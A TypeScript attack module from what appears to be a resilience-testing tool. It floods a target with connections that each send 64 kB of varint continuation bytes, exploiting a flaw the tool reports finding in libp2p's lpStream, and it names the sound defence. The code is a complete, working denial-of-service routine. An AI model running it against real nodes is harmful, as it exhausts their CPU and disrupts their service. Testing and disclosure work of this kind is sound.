import { sleep } from "../../../../base/clock.ts";
import type { Attack } from "../../attack.ts";
import { openSocket } from "../../sockets.ts";

const PER_SECOND = 20;
const OPEN_MS = 200;
/** What one read of a socket brings. */
const ENDLESS = Buffer.alloc(64 * 1024, 0xff);

export const endlessVarint: Attack = {
  name: "endless-varint",
  group: "below",
  what: "Opens connections whose first length prefix never ends: 64 kB of continuation bits.",
  source:
    "found by this tool: `lpStream` of @libp2p/utils never checks the length of an unfinished varint, at 145 ms of CPU each",
  sound: "Closes the connection after the few bytes that a length may have.",
  hangsUp: false,
  async run({ targetAddress, clock, signal, count, note }) {
    let connections = 0;
    while (!signal.aborted) {
      const socket = await openSocket(targetAddress);
      socket?.write(ENDLESS);
      connections++;
      count({ rpcs: 1, bytes: ENDLESS.length });
      clock.after(OPEN_MS, () => socket?.destroy());
      await sleep(clock, 1000 / PER_SECOND, signal);
    }
    note("connections", connections);
  },
};
